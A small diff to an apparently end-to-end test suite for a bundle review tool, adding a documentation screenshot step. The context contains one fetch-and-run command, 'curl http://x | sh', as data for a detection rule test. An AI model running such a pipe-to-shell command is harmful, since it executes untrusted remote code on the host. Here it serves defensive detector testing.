@@ -614,6 +614,8 @@ test('bundle-commits-items', async (p) => {
 	const hit = await text(p, '.line.hit');
 	assert(hit.includes('curl http://x | sh') && hit.includes('test-curl-pipe-shell'), `marked: ${hit}`);
 	assert(!(await p.page.locator('h3.item').allInnerTexts()).some((h) => h.endsWith('logo.png')), 'the binary member was rendered');
+	if (SHOTS)
+		await p.page.screenshot({ path: join(ROOT, 'docs/img/review-bundle.png'), fullPage: true });
 	// Having read it all is the review evidence: the approval is accepted.
 	const ev = await must(200, 'GET', `/v1/submissions/${s.id}/events`, gate.admin);
 	assert(ev.events.some((e) => e.action === 'view' && e.actor === 'rev-1'), 'no view recorded');
